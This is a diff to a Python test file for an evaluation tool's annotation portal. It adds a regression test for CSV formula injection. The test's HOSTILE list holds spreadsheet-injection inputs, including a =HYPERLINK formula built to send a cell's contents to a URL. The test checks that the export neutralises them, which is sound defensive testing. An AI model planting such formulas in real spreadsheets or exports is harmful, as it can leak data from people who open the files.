@@ -1,22 +1,32 @@
-"""Export to stableval's annotation and pairwise tables, the CLI admin tasks, and ``stableval score`` on the
-export."""
+"""Export to stableval's annotation and pairwise tables, the CLI admin tasks, ``stableval score`` on the export,
+and CSV cells a spreadsheet would run as formulas."""
 
 from __future__ import annotations
 
+import io
 import json
 from pathlib import Path
 
 import pandas as pd
 import pytest
-from portal_helpers import CRITERIA, questions_frame
+from portal_helpers import (
+    ADMIN,
+    CRITERIA,
+    claim,
+    fill_steps,
+    questions_frame,
+    signed_in_rater,
+    submit_form,
+)
 from sqlalchemy import select
 from typer.testing import CliRunner
 
 from stableval.cli import app as cli
 from stableval.data import read_any, read_pairwise
-from stableval.portal.admin.export import export
+from stableval.portal.admin.export import export, to_bytes
 from stableval.portal.store.db import Database
-from stableval.portal.store.models import Assignment, Rater, utcnow
+from stableval.portal.store.models import Assignment, Question, Rater, utcnow
+from stableval.portal.web.app import create_app
 from stableval.portal.work.assignment import claim_next
 from stableval.portal.work.flow import empty_draft, save_draft, submit
 
@@ -121,7 +131,6 @@ def test_import_is_all_or_nothing_and_names_row_and_column(tmp_path: Path) -> No
     result = runner.invoke(cli, ["portal", "import", "main", str(good), "--database-url", url])
     assert result.exit_code == 1 and "already in track" in result.output
     db = Database(url)
-    from stableval.portal.store.models import Question
 
     with db.reading() as session:
         assert sorted(session.scalars(select(Question.external_id))) == ["q0", "q1"]  # only the good file
@@ -143,3 +152,36 @@ def test_serve_needs_an_admin_token(token: str) -> None:
     result = runner.invoke(cli, ["serve", "--admin-token", token], env={"STABLEVAL_PORTAL_ADMIN_TOKEN": ""})
     text = " ".join(result.output.replace("│", " ").split())
     assert result.exit_code == 2 and "at least 12 characters" in text
+
+
+HOSTILE = ['=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]
+
+
+def test_csv_export_neutralises_formulas_and_score_still_reads_it(tmp_path: Path) -> None:
+    """Regression (portal security review, correctness finding F2: formula injection in CSV files)."""
+    url = f"sqlite:///{tmp_path / 'portal.db'}"
+    app = create_app(url, admin_token=ADMIN)
+    frame = questions_frame(1)
+    frame["id"], frame["model_a"], frame["model_b"] = HOSTILE[0], HOSTILE[1], HOSTILE[3]
+    client, db = signed_in_rater((app, app.state.portal.db), tmp_path, frame)
+    assignment, html = claim(client)
+    confirm = fill_steps(client, assignment, html, "a", "5", "2", **{"why-accuracy": HOSTILE[2]})
+    client.post(f"/a/{assignment}/submit", data=submit_form(confirm.text))
+
+    pairwise = pd.read_csv(io.BytesIO(to_bytes(export(db, "pairwise").frame, "csv")), dtype=str,
+                           keep_default_na=False)
+    cells = pairwise[["item", "agent_a", "agent_b", "reason"]].to_numpy().ravel()
+    assert all(not str(c).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert "'" + HOSTILE[0] in set(pairwise["item"]) and "'" + HOSTILE[2] in set(pairwise["reason"])
+    raw = [json.loads(line) for line in to_bytes(export(db, "pairwise").frame, "jsonl").decode().splitlines()]
+    assert {r["item"] for r in raw} == {HOSTILE[0]}  # JSONL keeps the raw text
+
+    out = tmp_path / "votes.csv"
+    written = runner.invoke(cli, ["export", "main", "--criterion", "accuracy", "-o", str(out), "--database-url", url])
+    assert written.exit_code == 0, written.output
+    table = pd.read_csv(out, dtype=str)
+    assert sorted(table["label"]) == ["2", "5"] and set(table["agent"]) == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
+    scored = runner.invoke(cli, ["score", str(out), "--levels", "1,2,3,4,5", "-B", "0", "-f", "json"])
+    assert scored.exit_code == 0, scored.output
+    assert {row["agent"] for row in json.loads(scored.stdout)["scores"]} == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
+    app.state.portal.db.dispose()
